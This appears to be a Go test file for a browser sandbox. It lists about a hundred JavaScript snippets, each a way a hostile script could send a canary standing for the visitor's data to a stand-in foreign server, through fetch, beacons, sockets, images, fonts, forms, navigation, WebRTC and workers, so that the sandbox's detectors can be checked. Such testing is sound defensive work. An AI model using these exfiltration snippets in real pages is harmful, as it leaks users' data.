//go:build !js

package wasm_test

// A channel is one way in which a hostile script inside the page could send
// something out. Its code is the body of an async function that runs in the
// program's frame, with a user gesture, and may use
//
//	SINK   origin of a foreign HTTP server, WS the same for sockets
//	PRE    address of a foreign TCP listener that nothing else connects to
//	STUN   port of a foreign UDP listener
//	C      the canary, which stands for the visitor's data
//	blank  function: a window of its own, from an about:blank frame
//	put    function(document, tag, attributes): adds an element
//	work   function(code): runs code in a worker and returns what it posts
//
// Every channel must be seen working on a page without protection, so that its
// detectors are known to fire.
type channel struct {
	name, code string
	// open is the note of boot.js if the channel stays open, "" if it is
	// closed; older is the same in a browser that ignores Connection-Allowlist.
	open, older string
	// mute is why the detectors stay silent even without protection.
	mute string
}

// What stays open, in the words of boot.js.
const (
	openDownload = "Open: a script could save a file of this server through a blank frame, and so ask this server for an address it chooses."
	openPeer     = "Open: a script could make a peer connection through a blank frame."
	openUpdate   = "Open: an hour after the page was kept for use without a network, a script could have the browser ask this server for sw.js again, with nothing added."
	openBare     = "Open: a script could open a bare connection, whose host name it chooses, but send nothing over it."
)

var channels = []channel{
	// requests
	{name: "fetch GET, foreign", code: `await fetch(SINK + '/?d=' + C, {mode: 'no-cors'})`},
	{name: "fetch GET, own server", code: `await fetch('/?d=' + C)`},
	{name: "fetch POST, own server", code: `await fetch('/post', {method: 'POST', body: C})`},
	{name: "fetch keepalive, own server", code: `await fetch('/keep?d=' + C, {keepalive: true})`},
	{name: "fetch of a blank frame", code: `await blank().fetch(SINK + '/?d=' + C, {mode: 'no-cors'})`},
	{name: "fetch of a blank frame, own server", code: `await blank().fetch('/?d=' + C, {method: 'POST', body: C})`},
	{name: "fetch of the shell", code: `await parent.fetch('/?d=' + C)`},
	{name: "XMLHttpRequest, foreign", code: `const x = new XMLHttpRequest(); x.open('GET', SINK + '/?d=' + C); x.send()`},
	{name: "XMLHttpRequest POST, own server", code: `const x = new XMLHttpRequest(); x.open('POST', '/xhr'); x.send(C)`},
	{name: "sendBeacon, foreign", code: `navigator.sendBeacon(SINK + '/beacon', C)`},
	{name: "sendBeacon, own server", code: `navigator.sendBeacon('/beacon', C)`},
	{name: "WebSocket, foreign", code: `new WebSocket(WS + '/?d=' + C)`},
	{name: "WebSocket, own server", code: `new WebSocket('ws://' + location.host + '/?d=' + C)`},
	{name: "EventSource, foreign", code: `new EventSource(SINK + '/?d=' + C)`},
	{name: "EventSource, own server", code: `new EventSource('/?d=' + C)`},
	{name: "WebTransport", code: `const w = new WebTransport('https://127.0.0.1:' + STUN + '/?d=' + C); w.closed.catch(() => {}); await w.ready`},

	// subresources
	{name: "image, foreign", code: `new Image().src = SINK + '/?d=' + C`},
	{name: "image, own server", code: `new Image().src = '/favicon.svg?d=' + C`},
	{name: "image of a blank frame", code: `new (blank().Image)().src = SINK + '/?d=' + C`},
	{name: "image in the shell", code: `put(parent.document, 'img', {src: '/favicon.svg?d=' + C})`},
	{name: "svg image", code: `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = document.createElementNS('http://www.w3.org/2000/svg', 'image');
		i.setAttribute('href', SINK + '/?d=' + C); s.append(i); document.body.append(s)`},
	{name: "style sheet, foreign", code: `put(document, 'link', {rel: 'stylesheet', href: SINK + '/?d=' + C})`},
	{name: "style sheet, own server", code: `put(document, 'link', {rel: 'stylesheet', href: '/app.css?d=' + C})`},
	{name: "CSS url()", code: `document.body.style.backgroundImage = 'url("' + SINK + '/?d=' + C + '")'`},
	{name: "CSS url(), own server", code: `document.body.style.backgroundImage = 'url("/favicon.svg?d=' + C + '")'`},
	{name: "font", code: `await new FontFace('x', 'url("' + SINK + '/?d=' + C + '")').load()`},
	{name: "script, foreign", code: `put(document, 'script', {src: SINK + '/?d=' + C})`},
	{name: "script, own server", code: `put(document, 'script', {src: '/boot.js?d=' + C})`},
	{name: "script in the shell", code: `put(parent.document, 'script', {src: '/boot.js?d=' + C})`},
	{name: "import()", code: `await import(SINK + '/?d=' + C)`},
	{name: "import(), own server", code: `await import('/boot.js?d=' + C)`},
	{name: "media", code: `put(document, 'video', {src: SINK + '/?d=' + C, preload: 'auto'}).load()`},
	{name: "object", code: `put(document, 'object', {data: SINK + '/?d=' + C})`},
	{name: "embed", code: `put(document, 'embed', {src: SINK + '/?d=' + C})`},
	{name: "manifest", code: `put(document, 'link', {rel: 'manifest', href: '/site.webmanifest?d=' + C})`, mute: "a headless browser installs nothing, so it fetches no manifest"},

	// hints
	{name: "prefetch, foreign", code: `put(document, 'link', {rel: 'prefetch', href: SINK + '/?d=' + C})`},
	{name: "prefetch, own server", code: `put(document, 'link', {rel: 'prefetch', href: '/app.css?d=' + C})`},
	{name: "preload", code: `put(document, 'link', {rel: 'preload', as: 'image', href: '/favicon.svg?d=' + C})`},
	{name: "modulepreload", code: `put(document, 'link', {rel: 'modulepreload', href: '/module.js?d=' + C})`},
	{name: "speculation rules", code: `const s = document.createElement('script'); s.type = 'speculationrules';
		s.textContent = JSON.stringify({prefetch: [{urls: ['/404.html?d=' + C], eagerness: 'immediate'}]}); document.head.append(s)`, mute: "a headless browser does not speculate"},
	{name: "preconnect", code: `put(document, 'link', {rel: 'preconnect', href: PRE})`, older: openBare},
	{name: "preconnect in the shell", code: `put(parent.document, 'link', {rel: 'preconnect', href: PRE})`, older: openBare},
	{name: "dns-prefetch", code: `put(document, 'link', {rel: 'dns-prefetch', href: 'http://' + C + '.dns.test'})`, mute: "the test's browser looks up no name, whoever asks"},

	// frames and windows
	{name: "frame, foreign", code: `put(document, 'iframe', {src: SINK + '/?d=' + C})`, older: openBare},
	{name: "frame, own server", code: `put(document, 'iframe', {src: '/?d=' + C})`},
	{name: "frame in the shell", code: `put(parent.document, 'iframe', {src: '/404.html?d=' + C})`},
	{name: "location of a blank frame", code: `blank().location.href = SINK + '/?d=' + C`, older: openBare},
	{name: "location of a blank frame in the shell", code: `put(parent.document, 'iframe', {}).contentWindow.location.href = SINK + '/?d=' + C`},
	{name: "window.open", code: `window.open(SINK + '/?d=' + C)`},
	{name: "window.open of the shell", code: `parent.open(SINK + '/?d=' + C)`},
	{name: "link to a new window in the shell", code: `put(parent.document, 'a', {href: SINK + '/?d=' + C, target: '_blank'}).click()`},
	{name: "form GET", code: `const f = put(document, 'form', {action: SINK + '/', target: '_blank'}); const i = document.createElement('input'); i.name = 'd'; i.value = C; f.append(i); f.submit()`},
	{name: "form POST, own server", code: `const f = put(document, 'form', {action: '/form', method: 'post'}); const i = document.createElement('input'); i.name = 'd'; i.value = C; f.append(i); f.submit()`},
	{name: "form in the shell", code: `const f = put(parent.document, 'form', {action: SINK + '/'}); const i = parent.document.createElement('input'); i.name = 'd'; i.value = C; f.append(i); f.submit()`},

	// navigation
	{name: "location", code: `location.href = SINK + '/?d=' + C`},
	{name: "location, own server", code: `location.href = '/app.html?d=' + C`},
	{name: "reload under another address", code: `history.replaceState(null, '', '/app.html?d=' + C); location.reload()`},
	{name: "link", code: `put(document, 'a', {href: SINK + '/?d=' + C}).click()`},
	{name: "meta refresh", code: `put(document, 'meta', {'http-equiv': 'refresh', content: '0;url=' + SINK + '/?d=' + C})`},
	{name: "top location", code: `top.location.href = SINK + '/?d=' + C`},
	{name: "link to the top", code: `put(document, 'a', {href: SINK + '/?d=' + C, target: '_top'}).click()`},
	{name: "link in the shell", code: `put(parent.document, 'a', {href: SINK + '/?d=' + C}).click()`},
	{name: "link in the shell, own server", code: `put(parent.document, 'a', {href: '/?d=' + C}).click()`},
	{name: "link in the shell after leaving it", code: `const a = put(parent.document, 'a', {href: SINK + '/?d=' + C}); frameElement.remove(); a.click()`},
	{name: "link to the top in a blank frame", code: `put(blank().document, 'a', {href: SINK + '/?d=' + C, target: '_top'}).click()`},
	{name: "meta refresh in the shell", code: `put(parent.document, 'meta', {'http-equiv': 'refresh', content: '0;url=' + SINK + '/?d=' + C})`},
	{name: "link ping", code: `put(document, 'a', {href: '#x', ping: SINK + '/?d=' + C}).click()`},

	// downloads
	{name: "download link, foreign", code: `put(document, 'a', {href: SINK + '/?d=' + C, download: 'x'}).click()`},
	{name: "download link, own server", code: `put(document, 'a', {href: '/favicon.svg?d=' + C, download: 'x'}).click()`},
	{name: "download link in the shell", code: `put(parent.document, 'a', {href: '/favicon.svg?d=' + C, download: 'x'}).click()`},
	{name: "download link in a blank frame", code: `put(blank().document, 'a', {href: SINK + '/?d=' + C, download: 'x'}).click()`, older: openBare},
	{name: "download link in a blank frame, own server", code: `put(blank().document, 'a', {href: location.origin + '/favicon.svg?d=' + C, download: 'x'}).click()`, open: openDownload, older: openDownload},

	// WebRTC
	{name: "WebRTC", code: `await gather(window)`},
	{name: "WebRTC of the shell", code: `await gather(parent)`},
	{name: "WebRTC of a blank frame", code: `await gather(blank())`, older: openPeer},

	// code and workers
	{name: "eval", code: `return window.eval('"code ran"')`},
	{name: "Function", code: `return new Function('return "code ran"')()`},
	{name: "inline script", code: `const s = document.createElement('script'); s.textContent = 'window.ranInline = "code ran"'; document.head.append(s); return window.ranInline`},
	{name: "eval of a blank frame", code: `return blank().eval('"code ran"')`},
	{name: "service worker", code: `await navigator.serviceWorker.register('/worker.js?d=' + C)`},
	{name: "shared worker", code: `new SharedWorker('/worker.js?d=' + C)`},
	{name: "worker, own server", code: `new Worker('/worker.js?d=' + C)`},
	{name: "worker fetch, foreign", code: "await work(`fetch('${SINK}/?d=${C}', {mode: 'no-cors'})`)"},
	{name: "worker fetch POST, own server", code: "await work(`fetch('${location.origin}/post', {method: 'POST', body: '${C}'})`)"},
	{name: "worker XMLHttpRequest", code: "await work(`{const x = new XMLHttpRequest(); x.open('GET', '${SINK}/?d=${C}'); x.send()}`)"},
	{name: "worker WebSocket", code: "await work(`new WebSocket('${WS}/?d=${C}')`)"},
	{name: "worker EventSource", code: "await work(`new EventSource('${SINK}/?d=${C}')`)"},
	{name: "worker WebTransport", code: "await work(`new WebTransport('https://127.0.0.1:${STUN}/?d=${C}').ready.catch(() => {})`)"},
	{name: "worker importScripts, foreign", code: "await work(`importScripts('${SINK}/?d=${C}')`)"},
	{name: "worker importScripts, own server", code: "await work(`importScripts('${location.origin}/boot.js?d=${C}')`)"},
	{name: "worker import()", code: "await work(`import('${location.origin}/boot.js?d=${C}')`)"},
	{name: "worker of a worker", code: "await work(`new Worker('${location.origin}/worker.js?d=${C}')`)"},
	{name: "worker font", code: "await work(`new FontFace('x', 'url(${SINK}/?d=${C})').load()`)"},
	{name: "worker of a worker, fetch", code: "await work(`new Worker(URL.createObjectURL(new Blob([\"fetch('${SINK}/?d=${C}', {mode: 'no-cors'})\"])))`)"},

	// the reader of packed files, a worker of the scorer's worker: what hostile
	// code could try there
	{name: "reader fetch, foreign", code: "await read(`fetch('${SINK}/?d=${C}', {mode: 'no-cors'})`)"},
	{name: "reader fetch POST, own server", code: "await read(`fetch('${location.origin}/post', {method: 'POST', body: '${C}'})`)"},
	{name: "reader XMLHttpRequest", code: "await read(`{const x = new XMLHttpRequest(); x.open('GET', '${SINK}/?d=${C}'); x.send()}`)"},
	{name: "reader WebSocket", code: "await read(`new WebSocket('${WS}/?d=${C}')`)"},
	{name: "reader importScripts", code: "await read(`importScripts('${SINK}/?d=${C}')`)"},
	{name: "reader import()", code: "await read(`import('${location.origin}/boot.js?d=${C}')`)"},
	{name: "reader font", code: "await read(`new FontFace('x', 'url(${SINK}/?d=${C})').load()`)"},
	{name: "reader worker", code: "await read(`new Worker('${location.origin}/worker.js?d=${C}')`)"},
	{name: "reader worker, fetch", code: "await read(`new Worker(URL.createObjectURL(new Blob([\"fetch('${SINK}/?d=${C}', {mode: 'no-cors'})\"])))`)"},
	{name: "reader eval", code: "return await read(`(0, eval)('1'); answer = 'code ran'`)"},

	// the service worker; on the page without protection the first registers one
	{name: "service worker of the shell", code: `await parent.navigator.serviceWorker.register('/sw.js?d=' + C)`},
	{name: "service worker of that address", code: `await navigator.serviceWorker.register('/sw.js?c=' + C)`},
	{name: "message to the service worker", code: `(await keeper(navigator)).active.postMessage(C)`},
	{name: "update of the service worker", code: `document.cookie = 'd=' + C; await (await keeper(navigator)).update()`},
	{name: "update of the service worker in the shell", code: `document.cookie = 'd=' + C; await (await keeper(parent.navigator)).update()`},
	{name: "update of the service worker in a frame", code: `const f = document.createElement('iframe'); f.srcdoc = 'x';
		await new Promise((r) => { f.onload = r; document.body.append(f); }); await (await keeper(f.contentWindow.navigator)).update()`},
	{name: "fetch through the service worker", code: `await keeper(navigator); await fetch('/' + C)`},
	{name: "frame through the service worker", code: `await keeper(navigator); await new Promise((r) => { put(document, 'iframe', {src: '/' + C}).onload = r })`},
	{name: "frame of the shell through the service worker", code: `await keeper(navigator); await new Promise((r) => { put(parent.document, 'iframe', {src: '/app.html?d=' + C}).onload = r })`},
	{name: "background fetch", code: `await (await keeper(navigator)).backgroundFetch.fetch('x', ['/?d=' + C]); await new Promise((r) => setTimeout(r, 1200))`},
}

// prelude defines what the code of a channel may use.
const prelude = `
const put = (doc, tag, attributes) => {
	const e = doc.createElement(tag);
	for (const [k, v] of Object.entries(attributes)) e.setAttribute(k, v);
	(tag === 'link' || tag === 'meta' || tag === 'script' ? doc.head : doc.body).append(e);
	return e;
};
const blank = () => put(document, 'iframe', {}).contentWindow;
const keeper = async (nav) => {
	const r = await nav.serviceWorker.getRegistration();
	for (let i = 0; i < 50 && !r.active; i++) await new Promise((r) => setTimeout(r, 20));
	return r;
};
const gather = async (w) => {
	const p = new w.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + STUN}]});
	p.createDataChannel('x');
	await p.setLocalDescription(await p.createOffer());
	await new Promise((r) => setTimeout(r, 700));
	p.close();
};
const work = (code) => new Promise((r) => {
	const body = '(async () => { try {' + code + '; postMessage("done")} catch (e) {postMessage(e.name)} })()';
	const w = new Worker(URL.createObjectURL(new Blob([body], {type: 'text/javascript'})));
	w.onmessage = (e) => r(e.data);
	w.onerror = (e) => r('worker error ' + e.message);
});
const read = async (code) => {
	let program = '';
	if (window.cloister) {
		const port = cloister.readerPort();
		program = await (await new Promise((r) => { port.onmessage = (e) => r(e.data); })).text();
	}
	const body = program + ';let answer = "done"; try {' + code + '} catch (e) {answer = e.name}; postMessage(answer)';
	return work('await new Promise((r) => { const w = new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(body) + ']))); w.onmessage = (e) => { postMessage(e.data); r(); }; w.onerror = r; })');
};
`
